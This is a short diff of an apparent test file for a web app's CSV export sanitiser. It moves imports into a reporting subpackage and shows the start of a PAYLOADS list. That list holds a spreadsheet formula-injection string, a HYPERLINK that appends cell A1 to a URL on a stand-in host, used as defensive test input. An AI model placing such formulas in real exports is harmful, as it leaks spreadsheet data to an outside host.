@@ -12,8 +12,8 @@ from tests.admin_factories import (
     make_prediction,
     make_version,
 )
-from webapp.services import exports, reports
-from webapp.services.csv_safe import safe_cell
+from webapp.services.reporting import exports, reports
+from webapp.services.reporting.csv_safe import safe_cell
 
 PAYLOADS = [
     '=HYPERLINK("http://x.example/?"&A1,"open")',
